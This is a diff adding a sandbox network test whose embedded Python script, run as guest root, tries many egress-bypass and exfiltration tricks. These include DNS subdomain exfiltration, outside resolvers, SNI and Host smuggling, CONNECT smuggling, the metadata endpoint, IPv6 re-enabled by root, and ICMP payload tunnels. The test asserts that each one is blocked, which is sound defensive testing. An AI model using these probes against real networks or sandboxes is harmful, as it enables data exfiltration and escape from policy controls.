@@ -2726,4 +2726,143 @@ TEST_F(SpacedNetworkTest, NpmInstallWorks) {
   EXPECT_TRUE(logged(auditLog(*daemon_, id), "reason", "allow:npm.test", true));
 }
 
+// Every bypass class the network issue lists, tried from inside a real guest as root with a
+// policy that allows one name: each probe must get nothing from anywhere else. The script prints
+// one line per probe, "blocked <name>" or "LEAK <name>: <what came back>".
+constexpr const char* kBypassProbes = R"PY(
+import socket, ssl, struct, sys
+ALLOWED, DENIED, OTHER, PRIVATE, META = "198.51.100.10", "198.51.100.20", "203.0.113.30", "10.0.0.5", "169.254.169.254"
+FOREIGN = ["server " + ip for ip in (DENIED, OTHER, PRIVATE, META)]
+results = []
+def report(name, leaked, detail=""):
+    results.append(("LEAK %s: %r" % (name, detail)) if leaked else ("blocked " + name))
+def tcp(name, ip, port, payload=b"", wrap=None, family=socket.AF_INET):
+    try:
+        s = socket.socket(family, socket.SOCK_STREAM)
+        s.settimeout(3)
+        s.connect((ip, port))
+        if wrap: s = wrap(s)
+        if payload: s.sendall(payload)
+        got = s.recv(4096)
+    except Exception as e:
+        return report(name, False)
+    # Any answer from a server the policy does not allow, or any answer at all where none may come.
+    report(name, any(f.encode() in got for f in FOREIGN) or (wrap is None and not payload and got != b""), got[:80])
+def dns_query(name, qtype=1):
+    return struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"".join(
+        bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", qtype, 1)
+def dns_udp(name, server, qname, qtype=1):
+    try:
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+        s.sendto(dns_query(qname, qtype), (server, 53)); got = s.recv(4096)
+    except Exception:
+        return report(name, False)
+    answers = struct.unpack(">H", got[6:8])[0]; rcode = got[3] & 15
+    report(name, answers > 0, "rcode %d answers %d" % (rcode, answers))
+def dns_tcp(name, server, qname):
+    try:
+        s = socket.create_connection((server, 53), 3); q = dns_query(qname)
+        s.sendall(struct.pack(">H", len(q)) + q); got = s.recv(4096)[2:]
+    except Exception:
+        return report(name, False)
+    report(name, len(got) >= 8 and struct.unpack(">H", got[6:8])[0] > 0, got[:40])
+def tls(sni):
+    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+    return lambda s: ctx.wrap_socket(s, server_hostname=sni)
+get = lambda host: ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host).encode()
+
+try:  # control: the allowed server answers, so "blocked" below is the gateway's doing
+    c = socket.create_connection((ALLOWED, 80), 3); c.sendall(get("allowed.test")); got = c.recv(4096)
+    results.append("control " + ("reached" if ("server " + ALLOWED).encode() in got else "FAILED %r" % got[:60]))
+except Exception as e:
+    results.append("control FAILED %r" % e)
+try:
+    socket.getaddrinfo("c2VjcmV0LWV4ZmlsCg.denied.test", 80); report("dns exfiltration via subdomain", True)
+except socket.gaierror:
+    report("dns exfiltration via subdomain", False)
+dns_udp("dns to an external resolver over udp", "192.0.2.53", "denied.test")
+dns_udp("dns to another resolver address over udp", "8.8.8.8", "exfil.other.test")
+dns_udp("dns TXT for a denied zone", "192.0.2.53", "data.denied.test", 16)
+dns_tcp("dns to an external resolver over tcp", "192.0.2.53", "denied.test")
+tcp("DoT on 853", "192.0.2.53", 853, b"\x16\x03\x01")
+tcp("DoH to a denied host", DENIED, 443, get("denied.test"), tls("denied.test"))
+tcp("sni allowed, destination not its pinned address", DENIED, 443, get("allowed.test"), tls("allowed.test"))
+tcp("sni allowed, Host denied", ALLOWED, 443, get("denied.test"), tls("allowed.test"))
+tcp("tls without sni", DENIED, 443, get("denied.test"), tls(None))
+tcp("oversized ClientHello", DENIED, 443, b"\x16\x03\x01\xff\xff" + b"\x01" * 70000)
+tcp("Host allowed, destination elsewhere", DENIED, 80, get("allowed.test"))
+tcp("CONNECT smuggling", ALLOWED, 80, b"CONNECT denied.test:80 HTTP/1.1\r\nHost: denied.test:80\r\n\r\n" + get("denied.test"))
+tcp("absolute-URI smuggling", DENIED, 80, b"GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
+tcp("oversized Host", DENIED, 80, b"GET / HTTP/1.1\r\nHost: " + b"a" * 70000 + b"\r\n\r\n")
+tcp("malformed Host", DENIED, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\x00.denied.test\r\n\r\n")
+for port in (80, 22, 5432, 8443):
+    tcp("ip literal port %d" % port, OTHER, port, get(OTHER))
+tcp("metadata", META, 80, get("meta.test"))
+tcp("private range", PRIVATE, 80, get("rebind.test"))
+tcp("the gateway's own other port", "169.254.0.1", 15053, get("x"))
+tcp("the gateway's address, port 22", "169.254.0.1", 22, b"SSH-2.0-x\r\n")
+for ip6 in ("::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2001:db8::1", "fe80::1%eth0"):
+    tcp("ipv6 " + ip6, ip6, 80, get("meta.test"), family=socket.AF_INET6)
+for port in (443, 7, 53000):
+    try:
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
+        u.sendto(b"\xc0\x00\x00\x00\x01" + b"q" * 1200, (ALLOWED, port)); got = u.recv(4096)
+        report("udp %d (QUIC)" % port, True, got[:40])
+    except Exception:
+        report("udp %d (QUIC)" % port, False)
+try:
+    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); r.settimeout(2)
+    body = b"exfil-payload" * 8
+    header = struct.pack(">BBHHH", 8, 0, 0, 0x77, 1)
+    csum = sum(struct.unpack(">%dH" % ((len(header + body)) // 2), header + body)); csum = (csum >> 16) + (csum & 0xffff)
+    r.sendto(struct.pack(">BBHHH", 8, 0, ~(csum + (csum >> 16)) & 0xffff, 0x77, 1) + body, (ALLOWED, 0))
+    while True:
+        got, src = r.recvfrom(4096)
+        if got[20] == 0: report("icmp echo with payload", True, src); break
+except Exception:
+    report("icmp echo with payload", False)
+try:
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); raw.sendto(b"raw-ip", (ALLOWED, 0))
+    report("raw ip protocol 253 (sent; nothing can answer)", False)
+except Exception:
+    report("raw ip protocol 253", False)
+print("\n".join(results))
+)PY";
+
+TEST_F(SpacedNetworkTest, EveryBypassFromGuestRootFails) {
+  daemon_ = Daemon::start(data_dir_, networkArgs());
+  ASSERT_TRUE(daemon_);
+  auto& d = *daemon_;
+  const std::string id =
+      d.create(json{{"cpus", 1},
+                    {"memory_mb", 256},
+                    {"network", {{"egress", "policy"}, {"allow", {"allowed.test", "rebind.test"}}}}});
+  ASSERT_FALSE(id.empty());
+  // The guest learns allowed.test's address the legitimate way first (it is then pinned); an
+  // allowed name whose answer points into a private range (rebinding) resolves to nothing.
+  auto [resolved_rc, resolved] = sh(d, id, "getent hosts allowed.test && ! getent hosts rebind.test");
+  ASSERT_EQ(resolved_rc, 0) << resolved;
+  const int queries = internet_->dnsQueries();
+  auto up = d.call("PUT", "/v1/sandboxes/" + id + "/files?path=/tmp/probes.py", kBypassProbes);
+  ASSERT_EQ(up.status, 200) << up.body;
+  // Root turns IPv6 back on with a global address and a default route, as an attacker would.
+  json run = execJson(d, id,
+                      json{{"command",
+                            "sysctl -qw net.ipv6.conf.all.disable_ipv6=0 net.ipv6.conf.eth0.disable_ipv6=0; "
+                            "ip -6 addr add 2001:db8::2/64 dev eth0 nodad; ip -6 route add default dev eth0; "
+                            "python3 /tmp/probes.py"},
+                           {"user", "root"},
+                           {"timeout_s", 80}});
+  const std::string out = run.value("stdout", std::string());
+  EXPECT_EQ(run.value("exit_code", -1), 0) << out << run.value("stderr", std::string());
+  EXPECT_EQ(out.find("LEAK"), std::string::npos) << out;
+  EXPECT_NE(out.find("control reached"), std::string::npos) << out;
+  EXPECT_EQ(std::count(out.begin(), out.end(), '\n'), 34) << "a probe did not report:\n" << out;
+  // No denied name reached the real resolver (exfiltration through names).
+  EXPECT_EQ(internet_->dnsQueries(), queries);
+  json entries = auditLog(d, id);
+  EXPECT_TRUE(logged(entries, "destination", "169.254.169.254", false)) << entries.dump(1);
+  EXPECT_TRUE(logged(entries, "sni", "denied.test", false)) << entries.dump(1);
+}
+
 }  // namespace space
